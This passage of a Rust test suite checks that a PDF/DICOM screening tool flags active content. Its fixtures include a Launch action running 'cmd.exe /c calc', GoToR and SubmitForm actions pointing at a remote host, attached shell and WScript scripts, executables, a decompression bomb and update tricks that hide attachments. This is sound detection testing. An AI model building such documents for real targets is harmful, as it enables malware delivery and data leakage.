            report.findings.iter().any(|f| f.severity == Severity::Alert
                && f.detail.contains("app.alert('variant')")),
            "{name}: {:#?}",
            report.findings
        );
    }
}

// ---- actions ------------------------------------------------------------------------------

#[test]
fn every_action_kind_is_reported_where_it_hides() {
    let cases: Vec<(&str, Vec<u8>, &str, Severity)> = vec![
        (
            "name tree",
            document(
                "/Names << /JavaScript << /Names [(x) << /S /JavaScript /JS (app.alert\\('tree'\\)) >>] >> >>",
                "",
                &[],
            ),
            "app.alert('tree')",
            Severity::Alert,
        ),
        (
            "page /AA",
            document(
                "",
                "/AA << /O << /S /JavaScript /JS (app.alert\\('page'\\)) >> >>",
                &[],
            ),
            "app.alert('page')",
            Severity::Alert,
        ),
        (
            "annotation /AA",
            document(
                "",
                "/Annots [4 0 R]",
                &[obj(
                    "<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /AA << /E << /S /JavaScript /JS (app.alert\\('annot'\\)) >> >> >>",
                )],
            ),
            "app.alert('annot')",
            Severity::Alert,
        ),
        (
            "form field",
            document(
                "/AcroForm << /Fields [4 0 R] >>",
                "/Annots [4 0 R]",
                &[obj(
                    "<< /FT /Tx /T (f) /Type /Annot /Subtype /Widget /P 3 0 R /Rect [0 0 9 9] /AA << /K << /S /JavaScript /JS (app.alert\\('field'\\)) >> >> >>",
                )],
            ),
            "app.alert('field')",
            Severity::Alert,
        ),
        (
            "launch",
            document(
                "/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>",
                "",
                &[],
            ),
            "Launch action (starts \"cmd.exe\")",
            Severity::Alert,
        ),
        (
            "GoToR to a UNC path",
            document(
                "/OpenAction << /S /GoToR /F (\\\\\\\\198.51.100.7\\\\share\\\\x.pdf) /D [0 /Fit] >>",
                "",
                &[],
            ),
            "remote host",
            Severity::Alert,
        ),
        (
            "GoToE",
            document(
                "/OpenAction << /S /GoToE /F (http://198.51.100.7/x.pdf) /T << /R /C /N (a) >> >>",
                "",
                &[],
            ),
            "GoToE action",
            Severity::Alert,
        ),
        (
            "ImportData",
            document(
                "/OpenAction << /S /ImportData /F (\\\\\\\\198.51.100.7\\\\s\\\\d.fdf) >>",
                "",
                &[],
            ),
            "ImportData",
            Severity::Alert,
        ),
        (
            "SubmitForm",
            document(
                "/OpenAction << /S /SubmitForm /F << /FS /URL /F (http://198.51.100.7/c) >> >>",
                "",
                &[],
            ),
            "SubmitForm",
            Severity::Alert,
        ),
        (
            "URI",
            document(
                "/OpenAction << /S /URI /URI (https://example.org/) >>",
                "",
                &[],
            ),
            "URI action (\"https://example.org/\")",
            Severity::Warning,
        ),
    ];
    for (name, pdf, words, severity) in cases {
        let seen = as_qpdf_reads_it(&pdf);
        assert!(seen.contains("/S /"), "{name}: qpdf sees no action");
        let report = inspect_pdf(&pdf);
        assert!(
            report
                .findings
                .iter()
                .any(|f| f.severity == severity && f.detail.contains(words)),
            "{name}: {:#?}",
            report.findings
        );
        if severity == Severity::Warning {
            assert!(of(&report.findings, Severity::Alert).is_empty(), "{name}");
        }
    }
}

#[test]
fn xfa_form_scripts_are_read_from_the_decoded_xml() {
    let xml = br#"<?xml version="1.0"?><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform><field name="a"><event activity="initialize"><script contentType="application/x-javascript">xfa.host.messageBox('xfa')</script></event></field></subform></template></xdp:xdp>"#;
    let pdf = document(
        "/AcroForm << /Fields [] /XFA [(template) 4 0 R] >>",
        "",
        &[stream("/Filter /FlateDecode", &flate(xml))],
    );
    live(&pdf, &["xfa.host.messageBox('xfa')"]);
    assert_alert(
        &pdf,
        FindingKind::ActiveContent,
        "xfa.host.messageBox('xfa')",
    );
}

/// What python3's XML parser (expat, as XFA hosts parse with an XML parser that honours the
/// encoding) reads as the text of the `script` elements of `xml`; `None` without python3.
fn scripts_expat_reads(xml: &[u8]) -> Option<Vec<String>> {
    use std::io::Write as _;
    let mut child = Command::new("python3")
        .args([
            "-c",
            "import sys, xml.etree.ElementTree as E\nfor e in E.fromstring(sys.stdin.buffer.read()).iter():\n    if e.tag.split('}')[-1] == 'script': print(e.text)",
        ])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .ok()?;
    child.stdin.take()?.write_all(xml).ok()?;
    let out = child.wait_with_output().ok()?;
    assert!(out.status.success(), "expat did not parse the XFA");
    Some(
        String::from_utf8_lossy(&out.stdout)
            .lines()
            .map(str::to_owned)
            .collect(),
    )
}

/// Review r29-screen: an XFA form written in UTF-16 (either byte order, with or without a
/// byte order mark) had its `<script>` unread: no finding at all, though qpdf decodes the
/// stream and expat reads the script from it.
#[test]
fn xfa_form_scripts_in_utf16_are_read() {
    let xml = r#"<?xml version="1.0" encoding="UTF-16"?><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><field name="a"><event activity="initialize"><script contentType="application/x-javascript">xfa.host.messageBox('utf16')</script></event></field></subform></template></xdp:xdp>"#;
    let le: Vec<u8> = xml.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let be: Vec<u8> = xml.encode_utf16().flat_map(u16::to_be_bytes).collect();
    for (name, packet) in [
        ("little endian, no BOM", le.clone()),
        ("big endian, no BOM", be.clone()),
        ("little endian, BOM", [&[0xFF, 0xFE][..], &le].concat()),
        ("big endian, BOM", [&[0xFE, 0xFF][..], &be].concat()),
    ] {
        if let Some(scripts) = scripts_expat_reads(&packet) {
            assert_eq!(scripts, ["xfa.host.messageBox('utf16')"], "{name}");
        }
        let pdf = document(
            "/AcroForm << /Fields [] /XFA 4 0 R >>",
            "",
            &[stream("/Filter /FlateDecode", &flate(&packet))],
        );
        let input = Temp::new("xfa.pdf");
        std::fs::write(&input.0, &pdf).expect("write");
        let decoded = Command::new("qpdf")
            .args(["--show-object=4", "--filtered-stream-data"])
            .arg(&input.0)
            .output()
            .expect("qpdf (scripts/setup-test-deps.sh installs it)");
        assert_eq!(
            decoded.stdout, packet,
            "{name}: qpdf decodes the XFA packet"
        );
        let report = inspect_pdf(&pdf);
        assert!(
            report.findings.iter().any(|f| f.severity == Severity::Alert
                && f.detail.contains("xfa.host.messageBox('utf16')")),
            "{name}: {:#?}",
            report.findings
        );
    }
}

// ---- attachments --------------------------------------------------------------------------

fn attach(content: &[u8], name: &str) -> Vec<u8> {
    let dir = Temp::new(name);
    std::fs::write(&dir.0, content).expect("write");
    let plain = document("", "", &[]);
    qpdf(
        &plain,
        &[],
        &["--add-attachment", dir.0.to_str().expect("utf-8"), "--"],
    )
    .expect("attached")
}

#[test]
fn a_benign_attachment_is_info_not_an_alert() {
    let xml = b"<?xml version=\"1.0\"?><rsm:CrossIndustryInvoice xmlns:rsm=\"urn:x\"/>";
    let pdf = attach(xml, "factur-x.xml");
    live(&pdf, &["/EmbeddedFiles"]);
    let report = inspect_pdf(&pdf);
    assert!(
        report.findings.iter().all(|f| f.severity == Severity::Info),
        "{:#?}",
        report.findings
    );
    assert!(
        report
            .findings
            .iter()
            .any(|f| f.kind == FindingKind::EmbeddedFile && f.detail.contains("factur-x.xml"))
    );
    // Exposed to the caller, decoded, for rules and hash lists.
    assert_eq!(report.attachments.len(), 1);
    assert_eq!(report.attachments[0].bytes, xml);
    // And a plain text file and an image.
    let text = attach(b"Findings: no acute abnormality.\n", "summary.txt");
    assert!(
        inspect_pdf(&text)
            .findings
            .iter()
            .all(|f| f.severity == Severity::Info)
    );
    let png = attach(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", "key-image.png");
    assert!(
        inspect_pdf(&png)
            .findings
            .iter()
            .all(|f| f.severity == Severity::Info)
    );
}

#[test]
fn executables_scripts_and_archives_attached_are_alerts() {
    let pe = pacsguard_testkit::real_pe();
    assert_alert(
        &attach(&pe, "viewer.exe"),
        FindingKind::EmbeddedExecutable,
        "viewer.exe",
    );
    let elf = pacsguard_testkit::real_elf();
    assert_alert(
        &attach(&elf, "update"),
        FindingKind::EmbeddedExecutable,
        "update",
    );
    assert_alert(
        &attach(b"#!/bin/sh\nid\n", "run"),
        FindingKind::ActiveContent,
        "script",
    );
    assert_alert(
        &attach(b"WScript.Shell.Run('calc')", "invoice.js"),
        FindingKind::ActiveContent,
        ".js",
    );
    let zip = pacsguard_testkit::zip_with("a.exe", b"MZ");
    assert_alert(
        &attach(&zip, "images.zip"),
        FindingKind::EmbeddedExecutable,
        "zip",
    );
}

#[test]
fn a_file_attachment_annotation_is_screened_too() {
    let pe = pacsguard_testkit::real_pe();
    let pdf = document(
        "",
        "/Annots [4 0 R]",
        &[
            obj(
                "<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /Type /Filespec /F (scan.exe) /EF << /F 5 0 R >> >> >>",
            ),
            stream("/Type /EmbeddedFile /Filter /FlateDecode", &flate(&pe)),
        ],
    );
    live(&pdf, &["/FileAttachment"]);
    assert_alert(&pdf, FindingKind::EmbeddedExecutable, "scan.exe");
}

// ---- budgets ------------------------------------------------------------------------------

fn warned(pdf: &[u8], words: &str) -> bool {
    inspect_pdf(pdf).findings.iter().any(|f| {
        f.kind == FindingKind::NotInspected
            && f.severity == Severity::Warning
            && f.detail.contains(words)
    })
}

#[test]
fn a_decompression_bomb_stops_at_the_decoding_budget_and_says_so() {
    let bomb = flate(&vec![b' '; MAX_PDF_INFLATED_BYTES]);
    let pdf = js_in_stream("/Filter /FlateDecode", &bomb);
    assert!(warned(&pdf, "bytes decoded by stream filters"));
    // Well under the budget: no warning.
    let fine = js_in_stream(
        "/Filter /FlateDecode",
        &flate(&vec![b' '; MAX_PDF_INFLATED_BYTES / 4]),
    );
    assert!(!warned(&fine, "bytes decoded"));
}

#[test]
fn nesting_at_the_limit_is_read_and_deeper_says_so() {
    let nested = |depth: usize| {
        let inner = format!(
            "{}<< /S /JavaScript /JS (deep) >>{}",
            "[".repeat(depth),
            "]".repeat(depth)
        );
        document(&format!("/Extra {inner}"), "", &[])
    };
    // The catalog dictionary is one level, the action dictionary another.
    let at_limit = nested(MAX_PDF_NESTING_DEPTH - 2);
    assert!(!warned(&at_limit, "nesting depth"));
    assert_alert(&at_limit, FindingKind::ActiveContent, "deep");
    assert!(warned(&nested(MAX_PDF_NESTING_DEPTH - 1), "nesting depth"));
}

#[test]
fn objects_at_the_limit_are_read_and_one_more_says_so() {
    let many = |count: usize| {
        let mut pdf = b"%PDF-1.7\n".to_vec();
        for i in 1..count {
            pdf.extend_from_slice(format!("{i} 0 obj null endobj\n").as_bytes());
        }
        pdf.extend_from_slice(format!("{count} 0 obj << /S /Launch /F (x) >> endobj\n").as_bytes());
        pdf
    };
    let at_limit = many(MAX_PDF_OBJECTS);
    assert!(!warned(&at_limit, "objects parsed"));
    assert_alert(&at_limit, FindingKind::ActiveContent, "Launch");
    assert!(warned(&many(MAX_PDF_OBJECTS + 1), "objects parsed"));
}

// ---- in DICOM -----------------------------------------------------------------------------

#[test]
fn an_encapsulated_document_is_read_as_a_pdf_wherever_its_header_is() {
    let plain = document(&js_catalog("(app.alert\\('far'\\))"), "", &[]);
    let mut far = vec![b' '; 5000];
    far.extend_from_slice(&plain);
    // qpdf, mutool and pdfinfo all open this (with a warning) and find the catalog.
    let mut headerless = b"REPORT 2026\n".to_vec();
    headerless.extend_from_slice(&plain[b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n".len()..]);
    assert!(memchr::memmem::find(&headerless, b"%PDF").is_none());
    for (name, pdf) in [("header at 5000", &far), ("no header", &headerless)] {
        live(pdf, &["'far'"]);
        let dicom = pacsguard_testkit::DicomBuilder::encapsulated_pdf("1.2.3.4", pdf).build();
        let inspection = pacsguard_dicom::inspect(&dicom);
        assert!(
            inspection
                .observations
                .iter()
                .any(|o| o.kind == FindingKind::ActiveContent
                    && o.severity == Severity::Alert
                    && o.detail.contains("app.alert('far')")),
            "{name}: {:#?}",
            inspection.observations
        );
        // The same bytes in a private element are no document a DICOM viewer opens; but
        // with its `%PDF-` there, qpdf and mutool open the whole file as that PDF by
        // repairing it (review s9-r10: tests/real_readers.rs runs them), so it is the
        // whole file read as a PDF that alerts. Without a header they open it too, by
        // rebuilding it from its objects (session 12; review s12-r10 found this test still
        // expecting silence).
        let private = pacsguard_testkit::DicomBuilder::ct("1.2.3.5")
            .element(0x0009, 0x1010, *b"OB", pdf)
            .build();
        let active: Vec<String> = pacsguard_dicom::inspect(&private)
            .observations
            .into_iter()
            .filter(|o| o.kind == FindingKind::ActiveContent)
            .map(|o| o.detail)
            .collect();
        if name == "no header" {
            assert!(
                active.len() == 1 && active[0].contains("without a header"),
                "{name}: {active:?}"
            );
        } else {
            assert!(
                active.len() == 1 && active[0].contains("by repairing the file"),
                "{name}: {active:?}"
            );
        }
    }
}

#[test]
fn a_benign_report_with_an_attachment_in_dicom_is_info_only() {
    let pdf = attach(b"<?xml version=\"1.0\"?><ClinicalDocument/>", "cda.xml");
    let dicom = pacsguard_testkit::DicomBuilder::encapsulated_pdf("1.2.3.6", &pdf).build();
    let inspection = pacsguard_dicom::inspect(&dicom);
    assert!(
        inspection
            .observations
            .iter()
            .all(|o| o.severity == Severity::Info),
        "{:#?}",
        inspection.observations
    );
    assert!(
        inspection
            .observations
            .iter()
            .any(|o| o.kind == FindingKind::EmbeddedFile)
    );
}

// ---- real encrypted documents written by other tools -----------------------------------------

/// pypdf's encryption test files (made with qpdf and other writers; unpacked by
/// scripts/setup-test-deps.sh): every revision R2–R6, RC4 and AES. Those a reader opens
/// without a prompt (empty user password, or empty owner password: qpdf and mutool try
/// both) are decrypted, their catalog found; the others are a warning saying why.
#[test]
fn real_encrypted_documents_open_exactly_when_a_reader_opens_them() {
    let dir = pacsguard_testkit::testdata().join("sdists/pypdf/resources/encryption");
    let mut seen = 0;
    for entry in std::fs::read_dir(&dir).expect("scripts/setup-test-deps.sh unpacks pypdf") {
        let path = entry.expect("entry").path();
        let bytes = std::fs::read(&path).expect("read");
        let opens = Command::new("qpdf")
            .arg("--check")
            .arg("--password=")
            .arg(&path)
            .output()
            .expect("qpdf")
            .status
            .code()
            == Some(0);
        let report = inspect_pdf(&bytes);
        let warned = report
            .findings
            .iter()
            .any(|f| f.kind == FindingKind::NotInspected && f.detail.contains("user password"));
        let name = path.display();
        assert_eq!(warned, !opens, "{name}: {:#?}", report.findings);
        if opens {
            assert!(report.catalog, "{name}");
            assert!(of(&report.findings, Severity::Alert).is_empty(), "{name}");
        }
        seen += 1;
    }
    assert!(seen >= 15, "{seen}");
}

#[test]
fn streams_at_the_limit_are_decoded_and_one_more_says_so() {
    let scripts = |count: usize| {
        let mut pdf = b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n".to_vec();
        for i in 0..count {
            let (action, data) = (2 * i + 2, 2 * i + 3);
            pdf.extend_from_slice(
                format!("{action} 0 obj << /S /JavaScript /JS {data} 0 R >> endobj\n{data} 0 obj << /Length 8 >>\nstream\nx({i:05})\nendstream endobj\n")
                    .as_bytes(),
            );
        }
        pdf
    };
    use pacsguard_dicom::MAX_PDF_STREAMS;
    assert!(!warned(&scripts(MAX_PDF_STREAMS), "streams decoded"));
    assert!(warned(&scripts(MAX_PDF_STREAMS + 1), "streams decoded"));
}

#[test]
fn xref_entries_at_the_limit_are_read_and_one_more_says_so() {
    use pacsguard_dicom::MAX_PDF_XREF_ENTRIES;
    let xref = |entries: usize| {
        // Type-1 entries one byte wide (offset width 0): cheap to hold a million.
        let data = flate(&vec![1u8; entries]);
        let mut pdf = b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n".to_vec();
        pdf.extend_from_slice(
            &stream(
                &format!("/Type /XRef /W [1 0 0] /Size {entries} /Root 1 0 R /Filter /FlateDecode"),
                &data,
            )
            .iter()
            .fold(b"2 0 obj\n".to_vec(), |mut v, b| {
                v.push(*b);
                v
            }),
        );
        pdf.extend_from_slice(b"\nendobj\n");
        pdf
    };
    assert!(!warned(
        &xref(MAX_PDF_XREF_ENTRIES),
        "cross-reference entries"
    ));
    assert!(warned(
        &xref(MAX_PDF_XREF_ENTRIES + 1),
        "cross-reference entries"
    ));
}

#[test]
fn parsing_work_is_bounded_and_says_so() {
    use pacsguard_dicom::MAX_PDF_PARSED_BYTES;
    // An unterminated string swallowing the rest, with an object header every 64 bytes
    // inside it: each header starts a parse to the end.
    let mut pdf = b"%PDF-1.7\n".to_vec();
    let mut i = 1;
    while pdf.len() < 4 * 1024 * 1024 {
        pdf.extend_from_slice(format!("\n{i} 0 obj ({:>50}", "").as_bytes());
        i += 1;
    }
    assert!(pdf.len() * i > MAX_PDF_PARSED_BYTES);
    assert!(warned(&pdf, "bytes parsed"));
    // A document well under the budget is read whole.
    let fine = document(
        &js_catalog("(ok)"),
        "",
        &[obj(&format!("({})", "x".repeat(MAX_PDF_PARSED_BYTES / 2)))],
    );
    assert!(!warned(&fine, "bytes parsed"));
}

#[test]
fn attached_pdfs_are_read_to_the_depth_limit_and_deeper_says_so() {
    use pacsguard_dicom::MAX_PDF_ATTACHMENT_DEPTH;
    // The innermost document runs a script; each level attaches the one inside it.
    let mut pdf = document(&js_catalog("(app.alert\\('inner'\\))"), "", &[]);
    for _ in 0..MAX_PDF_ATTACHMENT_DEPTH {
        pdf = attach(&pdf, "inner.pdf");
    }
    assert!(!warned(&pdf, "attached inside"));
    assert_alert(&pdf, FindingKind::ActiveContent, "app.alert('inner')");
    let deeper = attach(&pdf, "inner.pdf");
    assert!(warned(&deeper, "attached inside"));
}

/// Findings that each say something of their own (forms sent to different hosts) are
/// kept up to MAX_PDF_FINDINGS and the rest counted. (Links are one finding per document:
/// a_report_with_many_links_is_one_warning.)
#[test]
fn findings_past_the_limit_are_counted() {
    use pacsguard_dicom::MAX_PDF_FINDINGS;
    let links: String = (0..MAX_PDF_FINDINGS + 5)
        .map(|i| format!("<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] /A << /S /SubmitForm /F << /FS /URL /F (https://example.org/{i}) >> >> >> "))
        .collect();
    let pdf = document("", &format!("/Annots [{links}]"), &[]);
    let findings = inspect_pdf(&pdf).findings;
    assert_eq!(findings.len(), MAX_PDF_FINDINGS);
    assert!(
        findings
            .last()
            .is_some_and(|f| f.detail.contains("6 more PDF finding(s)")),
        "{findings:#?}"
    );
}

/// A document whose attached file (object 5, named by `/EF`, untyped) is defined twice:
/// `newest` by the newest cross-reference section (an incremental update), `older` by
/// the first; the newest definition is written first in the file, before the older one.
fn attachment_redefined_earlier_in_the_file(newest: &[u8], older: &[u8]) -> Vec<u8> {
    stream_redefined_earlier_in_the_file(
        "/Names << /EmbeddedFiles << /Names [(report.txt) 3 0 R] >> >>",
        "<< /Type /Filespec /F (report.txt) /EF << /F 5 0 R >> >>",
        newest,
        older,
    )
}

/// A document (catalog 1 with `catalog_extra`, pages 2, object 3 `third`) whose stream
/// object 5 is defined twice: `newest` by the newest cross-reference section (an
/// incremental update), `older` by the first; the newest definition is written first in
/// the file, before the older one.
fn stream_redefined_earlier_in_the_file(
    catalog_extra: &str,
    third: &str,
    newest: &[u8],
    older: &[u8],
) -> Vec<u8> {
    let mut out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n".to_vec();
    let mut at = Vec::new();
    let objects: [Vec<u8>; 5] = [
        obj(&format!(
            "1 0 obj\n<< /Type /Catalog /Pages 2 0 R {catalog_extra} >>\nendobj\n"
        )),
        obj("2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"),
        obj(&format!("3 0 obj\n{third}\nendobj\n")),
        [
            b"5 0 obj\n".as_slice(),
            &stream("/Filter /FlateDecode", &flate(newest)),
            b"\nendobj\n",
        ]
        .concat(),
        [
            b"5 0 obj\n".as_slice(),
            &stream("/Filter /FlateDecode", &flate(older)),
            b"\nendobj\n",
        ]
        .concat(),
    ];
    for object in objects {
        at.push(out.len());
        out.extend_from_slice(&object);
    }
    let entry = |offset: usize| format!("{offset:010} 00000 n \n");
    let first = out.len();
    let table = format!(
        "xref\n0 6\n0000000000 65535 f \n{}{}{}0000000000 65535 f \n{}trailer\n<< /Size 6 /Root 1 0 R >>\nstartxref\n{first}\n%%EOF\n",
        entry(at[0]),
        entry(at[1]),
        entry(at[2]),
        entry(at[4])
    );
    out.extend_from_slice(table.as_bytes());
    let update = out.len();
    let table = format!(
        "xref\n0 1\n0000000000 65535 f \n5 1\n{}trailer\n<< /Size 6 /Root 1 0 R /Prev {first} >>\nstartxref\n{update}\n%%EOF\n",
        entry(at[3])
    );
    out.extend_from_slice(table.as_bytes());
    out
}

/// Review r29-screen2: an object redefined by an incremental update is read in the
/// version the newest cross-reference section names (qpdf, mutool and pdfdetach all
/// take it); the one kept here was the last in the file. A program attached as
/// "report.txt" by an update whose new definition sat before the old one in the file was
/// a 12-byte "data" attachment (info), while qpdf, mutool and pdfdetach extract the
/// program. Every version of an attached object is screened now (a repairing reader
/// takes the last in the file), so the older one holding the program is found too.
#[test]
fn every_version_of_an_attachment_redefined_by_an_update_is_screened() {
    let program = pacsguard_testkit::real_pe();
    let note = b"just a note\n";
    for (newest, older) in [(&program[..], &note[..]), (&note[..], &program[..])] {
        let pdf = attachment_redefined_earlier_in_the_file(newest, older);
        let seen = as_qpdf_reads_it(&pdf);
        assert_eq!(
            seen.contains("This program cannot be run in DOS mode"),
            newest == &program[..],
            "qpdf reads the newest version"
        );
        assert_alert(&pdf, FindingKind::EmbeddedExecutable, "report.txt");
        let report = inspect_pdf(&pdf);
        assert!(
            report.attachments.iter().any(|a| a.bytes == program),
            "the program is given to rules and hash lists: {:?}",
            report
                .attachments
                .iter()
                .map(|a| a.bytes.len())
                .collect::<Vec<_>>()
        );
    }
}

/// Review r29-screen2: the encryption dictionary was read in the version last parsed. A
/// second valid version (the same document encrypted again with other permissions, so
/// another key for the same /ID) written after the last cross-reference section, which
/// qpdf and mutool do not read (they take the version the section names), made every
/// string and stream decrypt to noise here: an attached program was a 3-byte "data"
/// attachment with a garbled name (info) while qpdf extracts it. Every version of the
/// encryption dictionary is read now, up to MAX_PDF_ENCRYPTION_VERSIONS others.
#[test]
fn every_version_of_the_encryption_dictionary_is_read() {
    let program = pacsguard_testkit::real_pe();
    let plain = attach(&program, "report.txt");
    let encrypt = |permissions: &[&str]| {
        let mut after = vec!["--encrypt", "", "owner", "128", "--use-aes=n"];
        after.extend_from_slice(permissions);
        after.push("--");
        qpdf(
            &plain,
            &[
                "--allow-weak-crypto",
                "--static-id",
                "--object-streams=disable",
            ],
            &after,
        )
        .expect("encrypted")
    };
    let (read, other) = (encrypt(&[]), encrypt(&["--print=none"]));
    let number = |pdf: &[u8]| {
        let at = memchr::memmem::find(pdf, b"/Encrypt ").expect("/Encrypt") + 9;
        let digits: Vec<u8> = pdf[at..]
            .iter()
            .take_while(|b| b.is_ascii_digit())
            .copied()
            .collect();
        String::from_utf8(digits).expect("digits")
    };
    let num = number(&read);
    assert_eq!(num, number(&other));
    let header = format!("\n{num} 0 obj");
    let dict_at = memchr::memmem::find(&other, header.as_bytes()).expect("the dictionary") + 1;
    let dict_end =
        dict_at + memchr::memmem::find(&other[dict_at..], b"endobj").expect("endobj") + 6;
    let mut pdf = read.clone();
    pdf.extend_from_slice(&other[dict_at..dict_end]);
    pdf.push(b'\n');
    // qpdf reads the version its cross-reference table names, and extracts the program.
    let seen = as_qpdf_reads_it(&pdf);
    assert!(seen.contains("This program cannot be run in DOS mode"));
    assert_alert(&pdf, FindingKind::EmbeddedExecutable, "report.txt");

    // More versions than are read: the limit is said.
    let mut many = pdf.clone();
    for permissions in [["--modify=none"], ["--extract=n"], ["--annotate=n"]] {
        let again = encrypt(&permissions);
        let dict_at = memchr::memmem::find(&again, header.as_bytes()).expect("the dictionary") + 1;
        let dict_end =
            dict_at + memchr::memmem::find(&again[dict_at..], b"endobj").expect("endobj") + 6;
        many.extend_from_slice(&again[dict_at..dict_end]);
        many.push(b'\n');
    }
    let report = inspect_pdf(&many);
    assert!(
        report
            .findings
            .iter()
            .any(|f| f.kind == FindingKind::NotInspected
                && f.detail.contains(&format!(
                    "other versions of the encryption dictionary read (limit {})",
                    pacsguard_dicom::MAX_PDF_ENCRYPTION_VERSIONS
                ))),
        "{:#?}",
        report.findings
    );
}

/// Review r29-screen2: an XFA form's packets were read in the version of each stream
/// last parsed. An update redefining the template packet with a script, its new
/// definition written before the old one (qpdf reads the new one), was no finding.
#[test]
fn every_version_of_an_xfa_packet_redefined_by_an_update_is_read() {
    let form = |body: &str| {
        format!(r#"<?xml version="1.0"?><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform><field name="a">{body}</field></subform></template></xdp:xdp>"#).into_bytes()
    };
    let scripted = form(
        r#"<event activity="initialize"><script contentType="application/x-javascript">xfa.host.messageBox('versions')</script></event>"#,
    );
    let plain = form("");
    for (newest, older) in [(&scripted, &plain), (&plain, &scripted)] {
        let pdf = stream_redefined_earlier_in_the_file(
            "/AcroForm 3 0 R",
            "<< /Fields [] /XFA [(template) 5 0 R] >>",
            newest,
            older,
        );
        assert_eq!(
            as_qpdf_reads_it(&pdf).contains("messageBox('versions')"),
            newest == &scripted,
            "qpdf reads the newest version"
        );
        assert_alert(&pdf, FindingKind::ActiveContent, "messageBox('versions')");
    }
}

/// A document of `originals` (number, body; object 1 the catalog) updated by `update`
/// (number, body) under the same numbers, with the update's definitions written first in
/// the file and the originals after them: the first cross-reference section names the
/// originals, the newest (the update's, `/Prev` to the first) names the new ones.
fn updated_with_new_definitions_first(
    originals: &[(u32, Vec<u8>)],
    update: &[(u32, Vec<u8>)],
) -> Vec<u8> {
    let mut out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n".to_vec();
    let place = |objects: &[(u32, Vec<u8>)], out: &mut Vec<u8>| -> Vec<(u32, usize)> {
        let mut at = Vec::new();
        for (num, body) in objects {
            at.push((*num, out.len()));
            out.extend_from_slice(format!("{num} 0 obj\n").as_bytes());
            out.extend_from_slice(body);
            out.extend_from_slice(b"\nendobj\n");
        }
        at
    };
    let new = place(update, &mut out);
    let old = place(originals, &mut out);
    let section = |entries: &[(u32, usize)]| {
        let mut text = String::from("xref\n0 1\n0000000000 65535 f \n");
        for (num, offset) in entries {
            text.push_str(&format!("{num} 1\n{offset:010} 00000 n \n"));
        }
        text
    };
    let size = originals.iter().map(|(n, _)| n + 1).max().unwrap_or(1);
    let first = out.len();
    out.extend_from_slice(section(&old).as_bytes());
    out.extend_from_slice(
        format!("trailer\n<< /Size {size} /Root 1 0 R >>\nstartxref\n{first}\n%%EOF\n").as_bytes(),
    );
    let newest = out.len();
    out.extend_from_slice(section(&new).as_bytes());
    out.extend_from_slice(
        format!(
            "trailer\n<< /Size {size} /Root 1 0 R /Prev {first} >>\nstartxref\n{newest}\n%%EOF\n"
        )
        .as_bytes(),
    );
    out
}

/// Review r29-screen2: a value given by reference was read in the version last parsed,
/// not in the one the newest cross-reference section names, which qpdf and mutool read.
/// An attached program's `/Filter 6 0 R`, redefined by an update from ASCIIHexDecode to
/// FlateDecode with the new definition written first, was decoded here with the old
/// filter: the attachment did not decode and was passed over (no finding), while qpdf
/// extracts the program.
#[test]
fn a_value_redefined_by_an_update_is_read_as_the_newest_section_names_it() {
    let program = pacsguard_testkit::real_pe();
    let compressed = flate(&program);
    let originals = [
        (
            1,
            obj(
                "<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(report.txt) 3 0 R] >> >> >>",
            ),
        ),
        (2, obj("<< /Type /Pages /Kids [] /Count 0 >>")),
        (
            3,
            obj("<< /Type /Filespec /F (report.txt) /EF << /F 5 0 R >> >>"),
        ),
        (5, stream("/Filter 6 0 R", &compressed)),
        (6, obj("/ASCIIHexDecode")),
    ];
    let pdf = updated_with_new_definitions_first(&originals, &[(6, obj("/FlateDecode"))]);
    assert!(as_qpdf_reads_it(&pdf).contains("This program cannot be run in DOS mode"));
    assert_alert(&pdf, FindingKind::EmbeddedExecutable, "report.txt");
}

/// Review r29-screen2: the newest cross-reference section is the one readers reach from
/// the last `startxref`, then by `/Prev`, not the one last in the file. The update's
/// section written before the original one, `startxref` naming it: qpdf and mutool read
/// `/Filter 6 0 R` as /FlateDecode and extract the program; the section last in the
/// file (the original, /ASCIIHexDecode) was taken here.
#[test]
fn the_newest_section_is_the_one_startxref_names() {
    let program = pacsguard_testkit::real_pe();
    let compressed = flate(&program);
    let mut out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n".to_vec();
    let mut at = Vec::new();
    for (num, body) in [
        (
            1,
            obj(
                "<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(report.txt) 3 0 R] >> >> >>",
            ),
        ),
        (2, obj("<< /Type /Pages /Kids [] /Count 0 >>")),
        (
            3,
            obj("<< /Type /Filespec /F (report.txt) /EF << /F 5 0 R >> >>"),
        ),
        (5, stream("/Filter 6 0 R", &compressed)),
        (6, obj("/FlateDecode")),
        (6, obj("/ASCIIHexDecode")),
    ] {
        at.push(out.len());
        out.extend_from_slice(format!("{num} 0 obj\n").as_bytes());
        out.extend_from_slice(&body);
        out.extend_from_slice(b"\nendobj\n");
    }
    let entry = |offset: usize| format!("{offset:010} 00000 n \n");
    let update = out.len();
    let section = format!("xref\n0 1\n0000000000 65535 f \n6 1\n{}", entry(at[4]));
    let original =
        update + section.len() + "trailer\n<< /Size 7 /Root 1 0 R /Prev 0000000000 >>\n".len();
    out.extend_from_slice(section.as_bytes());
    out.extend_from_slice(
        format!("trailer\n<< /Size 7 /Root 1 0 R /Prev {original:010} >>\n").as_bytes(),
    );
    assert_eq!(out.len(), original);
    out.extend_from_slice(
        format!(
